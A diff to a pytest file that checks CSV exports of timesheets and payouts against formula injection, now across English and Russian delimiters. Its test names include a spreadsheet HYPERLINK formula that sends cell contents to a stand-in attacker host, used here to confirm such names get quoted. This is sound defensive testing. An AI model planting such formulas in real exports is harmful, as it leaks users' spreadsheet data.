@@ -9,9 +9,11 @@ from zoneinfo import ZoneInfo
 
 import pytest
 
-from core.csvsafe import safe_cell
+from api.exports import write_csv
+from core.csvsafe import BOM, STYLES, safe_cell
 from dispatch import onsite, timesheets
 from tests.builders import MOSCOW, book, make_order, make_worker, offset
+from tests.csv_reading import number, read_csv
 
 NAMES = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
@@ -35,35 +37,39 @@ def closed_shift(session, branch, site, dispatcher):
     return order
 
 
-def _cells(text: str) -> list[str]:
-    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+def _cells(body: bytes, language: str) -> list[str]:
+    text = body.decode("utf-8").removeprefix(BOM)
+    reader = csv.reader(io.StringIO(text), delimiter=STYLES[language].delimiter)
+    return [cell for row in reader for cell in row]
 
 
-def _no_live_formula(text: str) -> None:
-    for cell in _cells(text):
+def _no_live_formula(body: bytes, language: str) -> None:
+    for cell in _cells(body, language):
         if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
-            Decimal(cell)  # only a plain number (a debt) may start so
+            Decimal(number(cell))  # only a plain number (a debt) may start so
 
 
-def test_the_timesheet_csv_quotes_formula_names(session, dispatcher, closed_shift):
+@pytest.mark.parametrize("language, debt", [("en", "-300.00"), ("ru", "-300,00")])
+def test_the_timesheet_csv_quotes_formula_names(session, dispatcher, closed_shift, language, debt):
     sheet = timesheets.timesheet(session, closed_shift.id, actor=dispatcher)
-    text = timesheets.timesheet_csv(sheet)
-    names = [row["full_name"] for row in csv.DictReader(io.StringIO(text))][:-1]
+    body = write_csv(timesheets.timesheet_table(sheet), language)
+    names = [row["full_name"] for row in read_csv(body, language)][:-1]
     assert sorted(names) == sorted("'" + name for name in NAMES)
-    _no_live_formula(text)
-    pay = [row["worker_pay"] for row in csv.DictReader(io.StringIO(text))]
-    assert "-300.00" in pay  # a no-show's debt stays a number a column sum counts
+    _no_live_formula(body, language)
+    pay = [row["worker_pay"] for row in read_csv(body, language)]
+    assert debt in pay  # a no-show's debt stays a number a column sum counts
 
 
-def test_the_payouts_csv_quotes_formula_names(session, branch, dispatcher, closed_shift):
+@pytest.mark.parametrize("language", ["en", "ru"])
+def test_the_payouts_csv_quotes_formula_names(session, branch, dispatcher, closed_shift, language):
     day = closed_shift.starts_at.astimezone(ZoneInfo(branch.timezone)).date()
     currency, rows = timesheets.payouts(
         session, branch.id, actor=dispatcher, date_from=day, date_to=day + timedelta(days=1)
     )
-    text = timesheets.payouts_csv(currency, rows)
-    names = [row["full_name"] for row in csv.DictReader(io.StringIO(text))]
+    body = write_csv(timesheets.payouts_table(currency, rows), language)
+    names = [row["full_name"] for row in read_csv(body, language)]
     assert sorted(names) == sorted("'" + name for name in NAMES)
-    _no_live_formula(text)
+    _no_live_formula(body, language)
 
 
 @pytest.mark.parametrize(
@@ -76,6 +82,8 @@ def test_the_payouts_csv_quotes_formula_names(session, branch, dispatcher, close
         ("\tx", "'\tx"),
         ("\rx", "'\rx"),
         ("-300.00", "-300.00"),
+        ("-300,00", "-300,00"),
+        ("-1,2+3", "'-1,2+3"),
         ("-1+2", "'-1+2"),
         ("-1.", "'-1."),
         ("Иванов", "Иванов"),
